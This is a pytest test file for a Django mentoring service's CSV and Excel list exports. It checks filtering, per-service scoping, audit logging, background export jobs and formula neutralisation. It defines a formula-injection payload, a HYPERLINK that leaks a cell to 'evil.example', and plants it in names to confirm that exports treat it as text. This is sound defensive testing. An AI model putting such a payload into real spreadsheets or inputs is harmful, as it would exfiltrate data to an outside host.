"""Files of the list pages (mentors, matches, pairs, concerns, waiting list, expenses, audit
log): the same rows as the page's filtered selector, nothing out of scope, formulas
neutralised, files that parse; long lists go to the task worker with a progress page and
an expiring download."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from alongside.audit.models import AuditEvent
from alongside.contacts.models import Concern
from alongside.reports import lists
from alongside.reports.models import ExportJob, ExportStatus
from tests.contacts.factories import ContactFactory, active_match
from tests.matches.factories import MatchFactory, ready_mentor, waiting_patient
from tests.personas import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _both(client: Any, url: str, params: dict[str, str]) -> tuple[list[list[str]], list[list[Any]]]:
    as_csv = client.get(url, {**params, "format": "csv"})
    assert as_csv.status_code == 200, as_csv.content[:300]
    assert as_csv["Content-Type"].startswith("text/csv")
    as_xlsx = client.get(url, {**params, "format": "xlsx"})
    assert as_xlsx.status_code == 200
    return _csv(as_csv.content), _xlsx(as_xlsx.content)


@pytest.fixture
def records(world: World) -> dict[str, Any]:
    """Mentors, matches, active pairs with contacts and concerns in both services; one
    mentor and one patient in the home service have a formula for a name."""
    formula_mentor = ready_mentor(world.home, first_name=FORMULA, last_name="Mentor")
    formula_patient = waiting_patient(world.home, given_name="Fay", family_name=FORMULA)
    home = [
        active_match(world.home, patient=formula_patient, mentor=formula_mentor, days_ago=40),
        active_match(world.home, days_ago=10),
        active_match(world.home, days_ago=3),
    ]
    MatchFactory(service=world.home)  # a proposal: in the matches list, not in pairs
    elsewhere = active_match(
        world.other,
        patient=waiting_patient(world.other, family_name="Elsewhere"),
        mentor=ready_mentor(world.other, last_name="Elsewhere"),
    )
    for match in [*home, elsewhere]:
        contact = ContactFactory(match=match, contact_at=timezone.now() - dt.timedelta(days=2))
        Concern.objects.create(
            contact=contact,
            service=match.service,
            kind="health_change",
            description="Tired.",
            raised_by=world.people["mentor"],
        )
    Concern.objects.filter(contact__match=home[1]).update(status="closed", action_taken="Rang.")
    return {"home": home, "elsewhere": elsewhere}


# --- Each list: the file has the page's rows ----------------------------------------------


def test_mentors_file_has_the_filtered_lists_rows(world: World, records: dict[str, Any]) -> None:
    from alongside.mentors.forms import mentor_filters
    from alongside.mentors.selectors import mentors_for_list

    client = world.client_for("therapist")
    for params in ({}, {"status": "active"}, {"q": "Mentor"}, {"capacity_left": "2"}):
        as_csv, as_xlsx = _both(client, reverse("mentors:list"), params)
        _, filters = mentor_filters(params)
        expected = [
            m.full_name
            for m in mentors_for_list(world.people["therapist"], filters, timezone.localdate())
        ]
        assert [r[0] for r in as_xlsx[1:]] == expected
        assert len(as_csv) == len(expected) + 1
        assert as_csv[0] == lists.LISTS["mentors"].headers
    assert "Elsewhere" not in str(as_xlsx)


def test_matches_file_has_the_filtered_lists_rows(world: World, records: dict[str, Any]) -> None:
    from alongside.matches.forms import match_filters
    from alongside.matches.selectors import matches_for_list

    client = world.client_for("admin")
    for params in ({}, {"status": "active"}, {"status": "proposed"}):
        as_csv, as_xlsx = _both(client, reverse("matches:list"), params)
        _, filters = match_filters(params)
        expected = [
            (m.patient.full_name, m.mentor.full_name)
            for m in matches_for_list(world.people["admin"], filters)
        ]
        assert [(r[0], r[1]) for r in as_xlsx[1:]] == expected
        assert len(as_csv) == len(expected) + 1
    assert len(_both(client, reverse("matches:list"), {"status": "active"})[1]) == 4


def test_pairs_file_has_the_filtered_lists_rows(world: World, records: dict[str, Any]) -> None:
    from alongside.contacts.pair_states import staff_pairs_queryset

    client = world.client_for("therapist")
    as_csv, as_xlsx = _both(client, reverse("contacts:pairs"), {})
    expected = [m.pk for m in staff_pairs_queryset(world.people["therapist"], audited=False)]
    assert len(expected) == 3
    by_patient = {m.patient.full_name: m for m in records["home"]}
    assert sorted(by_patient[r[0]].pk for r in as_xlsx[1:]) == sorted(expected)
    assert {r[3] for r in as_xlsx[1:]} <= {"On track", "Needs check-in", "Quiet", "Not started"}
    assert all(r[5] == 1 for r in as_xlsx[1:])  # one contact each
    assert "Elsewhere" not in str(as_csv)
    quiet = _both(client, reverse("contacts:pairs"), {"state": "quiet"})[1]
    assert len(quiet) - 1 == len(
        staff_pairs_queryset(world.people["therapist"], state="quiet", audited=False)
    )


def test_concerns_file_has_the_filtered_lists_rows(world: World, records: dict[str, Any]) -> None:
    from alongside.contacts.selectors import concerns_for_staff

    client = world.client_for("therapist")
    for params in ({}, {"status": "open"}, {"status": "closed"}):
        as_csv, as_xlsx = _both(client, reverse("contacts:concerns"), params)
        expected = [
            c.contact.match.patient.full_name
            for c in concerns_for_staff(world.people["therapist"], params.get("status", ""))
        ]
        assert [r[2] for r in as_xlsx[1:]] == expected
        assert len(as_csv) == len(expected) + 1
    assert len(_both(client, reverse("contacts:concerns"), {"status": "closed"})[1]) == 2
    assert "Elsewhere" not in str(_both(client, reverse("contacts:concerns"), {})[0])


def test_audit_file_has_the_filtered_logs_rows_and_is_itself_audited(
    world: World, records: dict[str, Any]
) -> None:
    from alongside.audit.selectors import audit_events_for_list

    client = world.client_for("admin")
    client.get(reverse("mentors:list"))  # a mentor.list read event
    world.client_for("outsider").get(reverse("mentors:list"))  # one in the other service
    as_csv, as_xlsx = _both(client, reverse("audit:list"), {"action": "read"})
    events = list(audit_events_for_list(world.people["admin"], "read"))
    # The CSV was read before the XLSX request's own read event was written.
    assert [r[3] for r in as_xlsx[1:]] == ["read"] * (len(as_xlsx) - 1)
    assert len(as_xlsx) - 1 in (len(events), len(events) - 1)
    exported = next(
        e for e in AuditEvent.objects.filter(action="read") if "audit.export" in e.fields
    )
    assert exported is not None and exported.actor_email == world.people["admin"].email
    assert exported.object_ids  # the events it read, by id
    other_ids = set(
        AuditEvent.objects.filter(service_id=world.other.pk).values_list("pk", flat=True)
    )
    assert other_ids  # the outsider's service has events; none are in the file
    assert not other_ids & {
        int(x.split(":")[1]) for x in exported.object_ids if x.startswith("audit.")
    }


def test_a_list_export_is_an_audited_read_of_its_rows(
    world: World, records: dict[str, Any]
) -> None:
    client = world.client_for("therapist")
    before = AuditEvent.objects.count()
    client.get(reverse("mentors:list"), {"format": "csv"})
    event = next(
        e
        for e in AuditEvent.objects.filter(pk__gt=before, action="read")
        if "mentor.list" in e.fields
    )
    mentor_ids = {m.pk for m in records["home"][0].service.mentors.all()}
    assert {f"mentors.mentor:{pk}" for pk in mentor_ids} <= set(event.object_ids)


def test_formulas_are_text_in_every_list_file(world: World, records: dict[str, Any]) -> None:
    client = world.client_for("admin")
    for url in ("mentors:list", "matches:list", "contacts:pairs", "contacts:concerns"):
        as_csv, as_xlsx = _both(client, reverse(url), {})
        assert any(cell.startswith("'=HYPERLINK") for row in as_csv for cell in row), url
        assert not any(cell.startswith("=") for row in as_csv for cell in row), url
        raw = client.get(reverse(url), {"format": "xlsx"}).content
        import zipfile

        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
        assert any(FORMULA in str(cell) for row in as_xlsx for cell in row), url


def test_an_outsider_gets_only_their_services_rows(world: World, records: dict[str, Any]) -> None:
    client = world.client_for("outsider")
    _, mentors = _both(client, reverse("mentors:list"), {})
    assert [r[8] for r in mentors[1:]] == ["Other Service"]
    _, pairs = _both(client, reverse("contacts:pairs"), {})
    assert [r[2] for r in pairs[1:]] == ["Other Service"]
    # A persona without the page gets no file either.
    assert (
        world.client_for("mentor").get(reverse("mentors:list"), {"format": "csv"}).status_code
        == 404
    )
    assert world.client_for("therapist").get(
        reverse("audit:list"), {"format": "csv"}
    ).status_code in (302, 403, 404)


def test_an_empty_filtered_list_is_a_file_with_its_header(world: World) -> None:
    client = world.client_for("admin")
    as_csv, as_xlsx = _both(client, reverse("contacts:concerns"), {"status": "closed"})
    assert as_csv == [lists.LISTS["concerns"].headers]
    assert as_xlsx == [lists.LISTS["concerns"].headers]


def test_the_list_pages_link_to_their_files_with_the_filters(
    world: World, records: dict[str, Any]
) -> None:
    client = world.client_for("admin")
    page = client.get(reverse("mentors:list"), {"status": "active", "page": "1"}).content.decode()
    assert "status=active&amp;format=xlsx" in page and "page=1&amp;format" not in page
    for url in ("matches:list", "contacts:pairs", "contacts:concerns", "audit:list"):
        assert "format=csv" in client.get(reverse(url)).content.decode(), url


# --- Long lists: a background job ------------------------------------------------------------


@override_settings(ALONGSIDE_EXPORT_BACKGROUND_ROWS=2)
def test_a_long_list_is_made_by_the_worker_with_progress_and_an_expiring_download(
    world: World, records: dict[str, Any], run_worker: Any, django_capture_on_commit_callbacks: Any
) -> None:
    client = world.client_for("therapist")
    offer = client.get(reverse("mentors:list"), {"status": "active", "format": "xlsx"})
    assert offer.status_code == 200 and b"in the background" in offer.content
    page = client.get(reverse("mentors:list"), {"status": "active"}).content.decode()
    assert reverse("reports:list_export") in page  # the list page offers the job itself
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reports:list_export"),
            {"kind": "mentors", "format": "xlsx", "query": "status=active&q=Mentor"},
        )
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "reports:job", args=[job.pk]
    )
    assert 'hx-trigger="every 2s"' in client.get(response["Location"]).content.decode()
    run_worker()
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE and job.service is None
    assert job.params == {"format": "xlsx", "query": {"status": "active", "q": "Mentor"}}
    assert job.steps_done == job.steps_total == 1 and job.percent == 100
    assert b"Download mentors-" in client.get(reverse("reports:job", args=[job.pk])).content
    download = client.get(reverse("reports:job_download", args=[job.pk]))
    rows = _xlsx(download.content)
    assert rows[0] == lists.LISTS["mentors"].headers
    assert [r[0] for r in rows[1:]] == [FORMULA + " Mentor"]
    # Only the requester: another therapist of the same service gets 404.
    assert (
        world.client_for("colleague")
        .get(reverse("reports:job_download", args=[job.pk]))
        .status_code
        == 404
    )
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
    assert client.get(reverse("reports:job_download", args=[job.pk])).status_code == 410
    assert bytes(ExportJob.objects.get(pk=job.pk).content) == b""


def test_a_list_job_reads_what_the_requester_may_see_when_it_runs(
    world: World, records: dict[str, Any]
) -> None:
    from alongside.reports import services

    job = services.export_job_start(
        actor=world.people["outsider"],
        service=None,
        kind="pairs",
        params={"format": "csv", "query": {}},
    )
    done = services.export_job_run(job_id=job.pk)
    rows = _csv(bytes(done.content))
    assert [r[2] for r in rows[1:]] == ["Other Service"]
    assert done.file_name.endswith(".csv")


def test_a_list_job_refuses_a_list_the_person_cannot_open(world: World) -> None:
    client = world.client_for("mentor")
    response = client.post(reverse("reports:list_export"), {"kind": "mentors", "format": "csv"})
    assert response.status_code == 404
    response = world.client_for("admin").post(
        reverse("reports:list_export"), {"kind": "mentors", "format": "pdf"}
    )
    assert response.status_code == 400 and b"format" in response.content
    assert (
        world.client_for("admin")
        .post(reverse("reports:list_export"), {"kind": "nonsense", "format": "csv"})
        .status_code
        == 404
    )
    assert not ExportJob.objects.exists()


# --- The waiting list and the expenses list ----------------------------------------------------


def test_the_waiting_list_file_has_the_services_waiting_patients(world: World) -> None:
    waiting = [
        waiting_patient(world.home, given_name="Wren", family_name="Early"),
        waiting_patient(world.home, given_name=FORMULA, family_name="Will"),
    ]
    waiting_patient(world.other, given_name="Elsewhere", family_name="Waiting")
    active_match(world.home, days_ago=3)  # matched: not waiting
    url = reverse("matches:waiting", args=[world.home.slug])
    client = world.client_for("therapist")
    page = client.get(url).content.decode()
    assert "format=csv" in page and "format=xlsx" in page
    as_csv, as_xlsx = _both(client, url, {})
    assert as_csv[0] == lists.LISTS["waiting"].headers
    names = sorted(row[0] for row in as_xlsx[1:])
    assert names == sorted(p.full_name for p in waiting)
    assert all(row[5] == "Home Service" for row in as_xlsx[1:])
    assert any(cell.startswith("'=HYPERLINK") for row in as_csv for cell in row)
    assert not any(cell.startswith("=") for row in as_csv for cell in row)
    # Another service's waiting list is not there to download.
    outsider = world.client_for("outsider")
    assert outsider.get(url, {"format": "csv"}).status_code == 404
    assert world.client_for("mentor").get(url, {"format": "csv"}).status_code == 404


@override_settings(ALONGSIDE_EXPORT_BACKGROUND_ROWS=1)
def test_a_long_waiting_list_is_made_by_the_worker_for_its_service(
    world: World, run_worker: Any, django_capture_on_commit_callbacks: Any
) -> None:
    for n in range(3):
        waiting_patient(world.home, given_name=f"Wait{n}", family_name="Long")
    waiting_patient(world.other, given_name="Elsewhere", family_name="Waiting")
    url = reverse("matches:waiting", args=[world.home.slug])
    client = world.client_for("therapist")
    offer = client.get(url, {"format": "csv"}).content.decode()
    assert "in the background" in offer and f'href="{url}"' in offer  # the link back
    page = client.get(url).content.decode()
    assert 'name="query" value="service=home-service"' in page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("reports:list_export"),
            {"kind": "waiting", "format": "csv", "query": "service=home-service"},
        )
    run_worker()
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.DONE
    rows = _csv(client.get(reverse("reports:job_download", args=[job.pk])).content)
    assert sorted(r[0] for r in rows[1:]) == ["Wait0 Long", "Wait1 Long", "Wait2 Long"]
    # The outsider's job for the home service's list reads nothing of it.
    from django.http import Http404

    from alongside.reports import services

    other = services.export_job_start(
        actor=world.people["outsider"],
        service=None,
        kind="waiting",
        params={"format": "csv", "query": {"service": "home-service"}},
    )
    with pytest.raises(Http404):  # the task marks the job failed, with no file
        services.export_job_run(job_id=other.pk)


def test_the_expenses_file_follows_the_status_filter(world: World) -> None:
    from decimal import Decimal

    from alongside.mentors.models import ExpenseClaim, ExpenseStatus
    from tests.mentors.factories import home_claim, home_mentor

    waiting = home_claim(world)
    ExpenseClaim.objects.create(
        mentor=home_mentor(world),
        spent_on=dt.date(2024, 2, 1),
        purpose=FORMULA,
        amount=Decimal("30.00"),
        status=ExpenseStatus.APPROVED,
    )
    url = reverse("mentors:expenses")
    client = world.client_for("therapist")
    assert "format=csv" in client.get(url).content.decode()
    as_csv, as_xlsx = _both(client, url, {})  # claims waiting for a decision, as the page
    assert as_csv[0] == lists.LISTS["expenses"].headers
    assert [(r[0], r[3], r[5]) for r in as_xlsx[1:]] == [(waiting.pk, "Parking", "AUD")]
    assert as_xlsx[1][4] == 12.5
    _, every = _both(client, url, {"status": ""})
    assert sorted(r[3] for r in every[1:]) == sorted(["Parking", FORMULA])
    assert world.client_for("outsider").get(url, {"format": "csv", "status": ""}).status_code in (
        200,
        404,
    )
    outsider_rows = _csv(world.client_for("outsider").get(url, {"format": "csv"}).content)
    assert outsider_rows == [lists.LISTS["expenses"].headers]
